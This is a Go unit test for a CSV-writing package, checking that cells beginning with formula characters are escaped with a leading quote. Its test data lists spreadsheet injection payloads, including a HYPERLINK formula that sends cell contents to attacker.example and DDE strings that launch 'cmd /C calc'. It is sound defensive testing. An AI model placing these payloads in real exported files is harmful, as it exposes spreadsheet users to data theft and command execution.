package csvsafe_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/tickmark-dev/tickmark/internal/csvsafe"
)

func TestFormulaCellsAreNeutralised(t *testing.T) {
	attacks := []string{
		`=HYPERLINK("http://attacker.example/?x="&A1,"click")`,
		`+cmd|' /C calc'!A0`,
		`-2+3+cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		"\t=1+1",
		"\r=1+1",
	}
	var buf bytes.Buffer
	w := csvsafe.NewWriter(&buf)
	for _, a := range attacks {
		if err := w.Write([]string{"ok", a}); err != nil {
			t.Fatal(err)
		}
	}
	w.Flush()
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, a := range attacks {
		got := rows[i][1]
		if got != "'"+a {
			t.Errorf("cell %q written as %q, want it prefixed with a single quote", a, got)
		}
		if rows[i][0] != "ok" {
			t.Errorf("a plain cell changed: %q", rows[i][0])
		}
	}
	for _, s := range []string{"", "db-1", "a=b", "2026-11-30T00:00:00Z", "'quoted"} {
		if got := csvsafe.Cell(s); got != s {
			t.Errorf("Cell(%q) = %q, want it unchanged", s, got)
		}
	}
}
